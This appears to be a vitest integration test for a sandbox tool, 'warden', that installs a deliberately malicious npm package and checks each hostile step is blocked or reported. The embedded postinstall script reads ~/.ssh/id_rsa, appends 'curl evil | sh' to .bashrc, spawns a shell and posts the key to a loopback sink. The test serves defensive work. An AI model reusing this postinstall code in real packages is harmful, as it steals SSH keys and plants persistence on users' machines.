// A real `npm install` (offline, from local tarballs) under `warden run`, HOME pointed at a temp
// folder: a malicious postinstall reads ~/.ssh/id_rsa, posts it to a loopback sink, spawns
// `sh -c` and appends to ~/.bashrc. Each is blocked or reported, the sink receives nothing, and
// the legitimate package of the same install still installs.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runWarden, tempDir, useHttpSink } from "./helpers.js";

const held = useHttpSink();

const POSTINSTALL = `
const fs = require("fs"), os = require("os"), http = require("http"), cp = require("child_process");
const home = os.homedir();
let key = "";
try { key = fs.readFileSync(home + "/.ssh/id_rsa", "utf8"); } catch (e) { console.error("evil: read", e.code); }
try { fs.appendFileSync(home + "/.bashrc", "\\ncurl evil | sh\\n"); } catch (e) { console.error("evil: append", e.code); }
try { cp.execSync("sh -c 'echo pwned > " + home + "/pwned'"); } catch (e) { console.error("evil: sh", e.code); }
const req = http.request({ host: "127.0.0.1", port: Number(process.env.SINK_PORT), method: "POST", path: "/steal" });
req.on("error", (e) => console.error("evil: post", e.code));
req.end(key || "nothing");
`;

function pack(dir: string, pkg: Record<string, unknown>, extra: Record<string, string>): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "package.json"), JSON.stringify(pkg));
  for (const [k, v] of Object.entries(extra)) writeFileSync(join(dir, k), v);
  const out = execFileSync("npm", ["pack", "--silent", "--pack-destination", join(dir, "..")], {
    cwd: dir,
    encoding: "utf8",
  });
  return join(dir, "..", out.trim().split("\n").at(-1)!);
}

describe("warden run -- npm install", () => {
  it("blocks or reports everything a malicious postinstall does; the good package installs", async () => {
    const root = tempDir("warden-npm-");
    const home = join(root, "home");
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".ssh", "id_rsa"), "-----BEGIN FAKE KEY-----\n");
    writeFileSync(join(home, ".bashrc"), "# rc\n");
    const evil = pack(
      join(root, "evil"),
      { name: "evil-pkg", version: "1.0.0", scripts: { postinstall: "node postinstall.js" } },
      { "postinstall.js": POSTINSTALL },
    );
    const good = pack(
      join(root, "good"),
      { name: "good-pkg", version: "1.0.0", main: "index.js" },
      {
        "index.js": "module.exports = 42;\n",
      },
    );
    const app = join(root, "app");
    mkdirSync(app);
    writeFileSync(
      join(app, "package.json"),
      JSON.stringify({
        name: "app",
        version: "1.0.0",
        dependencies: { "evil-pkg": `file:${evil}`, "good-pkg": `file:${good}` },
      }),
    );
    writeFileSync(
      join(root, "policy.yaml"),
      `version: "1.0"
storage:
  deny:
    - { uri: ${JSON.stringify(`${home}/.ssh/**`)}, access: [read, write] }
    - { uri: ${JSON.stringify(`${home}/.bashrc`)}, access: write }
  allow:
    - { uri: "/**", access: [read, write] }
network:
  deny:
    - { host: 127.0.0.1 }
  allow:
    - { host: registry.npmjs.org, ports: [443] }
commands:
  default: allow
  deny: ["sh -c *pwned*"]
`,
    );
    const r = await runWarden(
      [
        "run",
        "--json",
        "--policy",
        join(root, "policy.yaml"),
        "--",
        "npm",
        "install",
        "--offline",
        "--no-audit",
        "--no-fund",
        "--foreground-scripts",
      ],
      {
        cwd: app,
        env: {
          ...process.env,
          HOME: home,
          SINK_PORT: String(held.current.port),
          npm_config_cache: join(root, "cache"),
        },
        timeoutMs: 240_000,
      },
    );
    expect(r.code, r.stderr).toBe(0);
    const events = r.stdout
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const summary = events.pop()!.summary as { lost: number; verdicts: Record<string, number> };
    const blocked = events.filter((e) => e.verdict === "block");
    // The key was not read, the rc file not written, the post refused before connecting.
    expect(
      blocked.some(
        (e) => e.function === "js:fs.readFileSync" && e.target === join(home, ".ssh", "id_rsa"),
      ),
    ).toBe(true);
    expect(
      blocked.some(
        (e) => e.function === "js:fs.appendFileSync" && e.target === join(home, ".bashrc"),
      ),
    ).toBe(true);
    expect(
      blocked.some((e) => e.function === "js:http.request" || e.function === "js:net.connect"),
    ).toBe(true);
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
    expect(held.current.connections).toBe(0);
    expect(held.current.received).toBe("");
    // The shell the postinstall started is reported (a commands section can block it).
    const sh = events.filter(
      (e) =>
        String(e.function).startsWith("js:child_process") &&
        JSON.stringify(e.arguments).includes("pwned"),
    );
    expect(sh.length).toBeGreaterThan(0);
    expect(r.stderr).toContain("evil: read EACCES");
    // The legitimate package installed.
    expect(existsSync(join(app, "node_modules", "good-pkg", "index.js"))).toBe(true);
    expect(summary.lost).toBe(0);
  }, 300_000);
});
